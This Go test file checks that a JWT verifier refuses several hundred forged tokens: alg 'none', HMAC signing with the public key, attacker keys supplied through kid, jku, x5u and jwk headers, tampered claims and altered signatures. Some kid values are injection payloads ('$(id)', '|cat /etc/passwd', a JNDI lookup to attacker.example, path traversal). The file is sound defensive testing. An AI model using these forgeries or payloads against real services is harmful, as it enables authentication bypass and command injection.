package keys_test

import (
	"crypto"
	"crypto/x509"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/golang-jwt/jwt/v5"

	"ucwarden/apiserver/keys"
)

// hostileTokens are tokens that nobody may get in with, by name: forged, confused, altered, expired, for somebody else, or no tokens
// at all. good is what an honest issuer signs; keys of other are not published. Sources: RFC 8725, RFC 7515 and 7519, and the
// advisories on libraries for them.
func hostileTokens(t testing.TB, good, other testKey) map[string]string {
	all := make(map[string]string)
	add := func(name, token string) {
		if _, taken := all[name]; taken {
			t.Fatalf("two hostile tokens are named %s", name)
		}
		all[name] = token
	}
	payload := object(t, claims(nil))
	head := func(more map[string]any) string {
		h := map[string]any{"alg": good.method.Alg(), "typ": "JWT", "kid": good.kid}
		for name, value := range more {
			if value == nil {
				delete(h, name)
			} else {
				h[name] = value
			}
		}
		return object(t, h)
	}
	honest := good.token(t, claims(nil))
	parts := strings.Split(honest, ".")
	der, err := x509.MarshalPKIXPublicKey(good.signer.Public())
	if err != nil {
		t.Fatal(err)
	}

	// No signature.
	for _, alg := range []string{"none", "None", "NONE", "nOnE", "none ", " none", "null", "", "unsigned", "HS0"} {
		for what, sig := range map[string]string{"no": "", "the honest": parts[2], "a zero": b64("\x00")} {
			add(fmt.Sprintf("alg %q with %s signature", alg, what), b64(head(map[string]any{"alg": alg}))+"."+b64(payload)+"."+sig)
		}
	}
	// The public key for a shared secret.
	secrets := map[string][]byte{
		"DER": der, "PEM": publicPEM(t, good.signer.Public()), "PEM without newline": []byte(strings.TrimSpace(string(publicPEM(t, good.signer.Public())))), "JWKS": jwks(t, good),
		"PEM of another type": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: der}), "empty": {}, "kid": []byte(good.kid), "a word": []byte("secret"), "zeros": make([]byte, 32),
	}
	for _, method := range []jwt.SigningMethod{jwt.SigningMethodHS256, jwt.SigningMethodHS384, jwt.SigningMethodHS512} {
		for what, secret := range secrets {
			add(method.Alg()+" with "+what, signed(t, method, secret, head(map[string]any{"alg": method.Alg()}), payload))
		}
	}
	// Another algorithm than the key's, with the honest signature and another's.
	for _, alg := range []string{"HS256", "RS256", "RS384", "RS512", "PS256", "PS384", "PS512", "ES256K", "ES384", "ES512", "EdDSA", "Ed448", "es256", "ES256 ", "ES256\x00", "dir", "RSA-OAEP", "A128KW", "PBES2-HS256+A128KW"} {
		add("alg "+fmt.Sprintf("%q", alg)+" over the honest signature", b64(head(map[string]any{"alg": alg}))+"."+b64(payload)+"."+parts[2])
	}
	for name, alg := range map[string]any{"a number": 256, "a list": []string{"ES256"}, "an object": map[string]any{"name": "ES256"}, "true": true, "absent": nil} {
		add("alg that is "+name, signed(t, good.method, good.signer, head(map[string]any{"alg": alg}), payload))
	}
	// A key of the attacker's, wherever it says it is.
	for _, kid := range []any{good.kid, other.kid, nil, "", " ", "../../../../dev/null", "/dev/null", "file:///dev/null", "https://attacker.example/jwks.json", "' OR '1'='1", "key\x00", "*", "%00", "..\\..\\key",
		strings.Repeat("k", 5000), 1, []string{good.kid}, map[string]any{"kid": good.kid}, true, strings.ToUpper(good.kid) + "x", good.kid + " ", "$(id)", "|cat /etc/passwd", "${jndi:ldap://attacker.example}", "0", "-1"} {
		add(fmt.Sprintf("another's key, kid %.40v (%T)", kid, kid), signed(t, other.method, other.signer, head(map[string]any{"alg": other.method.Alg(), "kid": kid}), payload))
	}
	theirs := map[string]any{"keys": string(jwks(t, other))}
	for name, value := range map[string]any{
		"jwk": theirs, "jku": "https://attacker.example/jwks.json", "x5u": "https://attacker.example/cert.pem", "x5c": []string{base64.StdEncoding.EncodeToString(der)},
		"x5t": "AAAA", "x5t#S256": "AAAA", "cty": "JWT", "url": "https://attacker.example", "iss": "ucwarden", "enc": "A128GCM", "zip": "DEF", "epk": theirs, "p2c": 1 << 30,
	} {
		add("another's key in header "+name, signed(t, other.method, other.signer, head(map[string]any{"alg": other.method.Alg(), name: value}), payload))
	}
	for name, value := range map[string]any{"unknown": []string{"x"}, "empty": []string{}, "b64": []string{"b64"}, "exp": []string{"exp"}, "no list": "b64", "null": "null"} {
		add("crit "+name, signed(t, good.method, good.signer, head(map[string]any{"crit": value, "b64": false}), payload))
	}
	// Claims that are honest in signature alone.
	now := time.Now()
	year := 365 * 24 * time.Hour
	wrong := map[string]map[string]any{
		"expired": {"exp": now.Add(-time.Hour).Unix()}, "no exp": {"exp": nil}, "exp as text": {"exp": "9999999999"}, "exp true": {"exp": true}, "exp in a list": {"exp": []int64{now.Add(time.Hour).Unix()}},
		"exp zero": {"exp": 0}, "exp negative": {"exp": -1}, "exp of no sane year": {"exp": now.Add(200 * year).Unix()}, "exp too large": {"exp": 1e300}, "exp in milliseconds": {"exp": now.Add(time.Hour).UnixMilli()},
		"exp at the end of time": {"exp": int64(math.MaxInt64)}, "exp an object": {"exp": map[string]any{}},
		"not yet": {"nbf": now.Add(time.Hour).Unix()}, "nbf as text": {"nbf": "0"}, "nbf true": {"nbf": true}, "nbf of no sane year": {"nbf": 1e300}, "nbf in a list": {"nbf": []int{0}}, "nbf at the end of time": {"nbf": int64(math.MaxInt64)},
		"issued in the future": {"iat": now.Add(time.Hour).Unix()}, "iat as text": {"iat": "0"}, "iat too large": {"iat": 1e300}, "iat an object": {"iat": map[string]any{}},
		"no iss": {"iss": nil}, "another iss": {"iss": "attacker"}, "iss in capitals": {"iss": "UCWARDEN"}, "iss with a blank": {"iss": "ucwarden "}, "iss with a prefix": {"iss": "https://ucwarden"}, "iss in a list": {"iss": []string{"ucwarden"}},
		"iss empty": {"iss": ""}, "iss a number": {"iss": 1}, "iss with a NUL": {"iss": "ucwarden\x00"}, "iss with a dot": {"iss": "ucwarden.attacker.example"},
		"no aud": {"aud": nil}, "another aud": {"aud": "attacker"}, "aud in capitals": {"aud": "UCWARDEN"}, "aud empty": {"aud": ""}, "aud an empty list": {"aud": []string{}}, "aud a list of others": {"aud": []string{"a", "b"}},
		"aud a number": {"aud": 1}, "aud an object": {"aud": map[string]any{"ucwarden": true}}, "aud a list in a list": {"aud": [][]string{{"ucwarden"}}}, "aud with a blank": {"aud": " ucwarden"}, "aud a pattern": {"aud": "*"},
		"sub a number": {"sub": 1}, "sub a list": {"sub": []string{"airflow"}}, "sub an object": {"sub": map[string]any{}},
		"scope a number": {"scope": 1}, "scope an object": {"scope": map[string]any{"admin": true}}, "catalogs a number": {"catalogs": 1}, "catalogs an object": {"catalogs": map[string]any{}},
	}
	for name, overrides := range wrong {
		add(name, good.token(t, claims(overrides)))
	}
	// One claim twice, the honest one first or last; misspelt names of members.
	for _, claim := range []string{"iss", "aud", "exp", "sub", "scope", "nbf"} {
		value := object(t, claims(nil)[claim])
		for what, text := range map[string]string{"first": fmt.Sprintf(`{"%s":%s,%s`, claim, value, payload[1:]), "last": fmt.Sprintf(`%s,"%s":%s}`, payload[:len(payload)-1], claim, value)} {
			add("claim "+claim+" twice, once more "+what, signed(t, good.method, good.signer, head(nil), text))
		}
	}
	for _, typ := range []any{"secevent+jwt", "logout+jwt", "application/logout+jwt", "JWE", "dpop+jwt", "kb+jwt", "jwt ", "", 5, nil, []string{"JWT"}, "application/application/jwt"} {
		add(fmt.Sprintf("a token of type %v", typ), signed(t, good.method, good.signer, object(t, map[string]any{"alg": good.method.Alg(), "kid": good.kid, "typ": typ}), payload))
	}
	for name, sub := range map[string]string{"bytes that are no text": "\"air\xffflow\"", "half a pair": `"airflow\ud800"`, "the other half": `"\udc00airflow"`} {
		add("sub of "+name, signed(t, good.method, good.signer, head(nil), strings.Replace(object(t, claims(map[string]any{"sub": "SUB"})), `"SUB"`, sub, 1)))
		add("a header with "+name, signed(t, good.method, good.signer, head(nil)[:len(head(nil))-1]+`,"x":`+sub+"}", payload))
	}
	for _, member := range []string{"alg", "kid", "typ"} {
		add("header "+member+" twice", signed(t, good.method, good.signer, fmt.Sprintf(`{"%s":"none",%s`, member, head(nil)[1:]), payload))
	}
	// A token in a token, and what is no token.
	add("a token in a token", signed(t, good.method, good.signer, head(map[string]any{"cty": "JWT"}), object(t, honest)))
	add("a token as a claim", signed(t, good.method, good.signer, head(nil), object(t, map[string]any{"jwt": honest})))
	deep := strings.Repeat(`{"a":`, 10_000) + "1" + strings.Repeat("}", 10_000)
	add("deep claims", signed(t, good.method, good.signer, head(nil), deep))
	add("a deep header", signed(t, good.method, good.signer, deep, payload))
	for name, text := range map[string]string{"null": "null", "a list": "[]", "a text": `"x"`, "a number": "1", "nothing": "", "no JSON": "{", "two objects": payload + payload, "UTF-16": "\xff\xfe{\x00}\x00", "a comment": "/**/" + payload} {
		add("claims that are "+name, signed(t, good.method, good.signer, head(nil), text))
		add("a header that is "+name, signed(t, good.method, good.signer, text, payload))
	}
	huge := claims(map[string]any{"sub": strings.Repeat("a", 1<<20)})
	add("a megabyte", good.token(t, huge))
	add("a megabyte of dots", strings.Repeat(".", 1<<20))
	for name, token := range map[string]string{
		"nothing": "", "a dot": ".", "two dots": "..", "three dots": "...", "one part": parts[0], "two parts": parts[0] + "." + parts[1], "four parts": honest + "." + parts[2], "five parts": honest + ".a.b",
		"no header": "." + parts[1] + "." + parts[2], "no claims": parts[0] + ".." + parts[2], "no signature": parts[0] + "." + parts[1] + ".", "padding": honest + "==", "a blank first": " " + honest, "a blank last": honest + " ",
		"a newline last": honest + "\n", "a newline inside": parts[0] + "\n." + parts[1] + "." + parts[2], "a NUL last": honest + "\x00", "bearer twice": "Bearer " + honest, "quotes": `"` + honest + `"`, "a comma": honest + "," + honest,
		"percent signs": strings.ReplaceAll(honest, ".", "%2E"), "parts in another order": parts[1] + "." + parts[0] + "." + parts[2], "JSON": `{"payload":"` + parts[1] + `"}`,
		"the alphabet of base64": parts[0] + "." + parts[1] + "." + strings.NewReplacer("-", "+", "_", "/").Replace(parts[2]) + "+/",
		"the claims of another":  parts[0] + "." + strings.Split(good.token(t, claims(map[string]any{"sub": "root"})), ".")[1] + "." + parts[2],
	} {
		add(name, token)
	}
	// The honest signature, altered.
	raw, err := base64.RawURLEncoding.DecodeString(parts[2])
	if err != nil {
		t.Fatal(err)
	}
	with := func(sig []byte) string {
		return parts[0] + "." + parts[1] + "." + base64.RawURLEncoding.EncodeToString(sig)
	}
	for i := 0; i < len(raw); i += max(1, len(raw)/64) {
		altered := append([]byte{}, raw...)
		altered[i] ^= 1 << (i % 8)
		add(fmt.Sprintf("a bit of byte %d of the signature", i), with(altered))
	}
	add("a signature of zeros", with(make([]byte, len(raw))))
	add("a signature of half", with(raw[:len(raw)/2]))
	add("a signature with more", with(append(append([]byte{}, raw...), 0)))
	add("a signature twice", with(append(append([]byte{}, raw...), raw...)))
	if der, err := good.signer.Sign(nil, make([]byte, 32), crypto.SHA256); err == nil {
		add("a signature in DER over nothing", with(der))
	}
	return all
}

// None of the hostile tokens gets in, whatever kind the key is of, and refusing it does not tell what it holds.
func TestHostileTokens(t *testing.T) {
	for _, good := range []testKey{newEC(t, "key-1"), newRSA(t, "key-1", 2048), newEd(t, "key-1")} {
		t.Run(good.method.Alg(), func(t *testing.T) {
			v := verifier(t, keys.VerifierOptions{JWKS: writeTemp(t, "jwks.json", jwks(t, good))})
			hostile := hostileTokens(t, good, newEC(t, "key-2"))
			if len(hostile) < 250 {
				t.Errorf("%d hostile tokens, want 250 at least", len(hostile))
			}
			wantAccepted(t, v, good.token(t, claims(nil)))
			for name, token := range hostile {
				if strings.HasPrefix(name, "alg "+fmt.Sprintf("%q", good.method.Alg())+" over") {
					continue // the honest one
				}
				if id, err := v.Verify(t.Context(), token); err == nil {
					t.Errorf("%s: accepted as %+v", name, id)
				}
			}
		})
	}
}

// BenchmarkHostile reports what refusing the dearest of the hostile tokens costs, and refusing one on average, as multiples of
// accepting a token that was not seen before (the goal is 1.2 at most). One seen before costs a lookup, which hostile
// tokens never get.
func BenchmarkHostile(b *testing.B) {
	good := newEC(b, "key-1")
	v := verifier(b, keys.VerifierOptions{JWKS: writeTemp(b, "jwks.json", jwks(b, good))})
	const times = 30
	cost := func(token func(i int) string) time.Duration {
		all := make([]time.Duration, times)
		for i := range all {
			t := token(i)
			start := time.Now()
			_, _ = v.Verify(b.Context(), t)
			all[i] = time.Since(start)
		}
		slices.Sort(all)
		return all[0] // what others on the machine do costs only the others
	}
	hostile := hostileTokens(b, good, newEC(b, "key-2"))
	var dearest, sum, accepted time.Duration
	worst, n := "", 0
	for b.Loop() {
		accepted += cost(func(int) string {
			n++
			return good.token(b, claims(map[string]any{"jti": n}))
		})
		dearest = 0
		for name, token := range hostile {
			c := cost(func(int) string { return token })
			if sum += c; c > dearest {
				dearest, worst = c, name
			}
		}
	}
	b.Logf("the dearest: %s", worst)
	b.ReportMetric(float64(dearest)*float64(b.N)/float64(accepted), "dearest-of-accepted")
	b.ReportMetric(float64(sum)/float64(len(hostile))/float64(accepted), "mean-of-accepted")
}
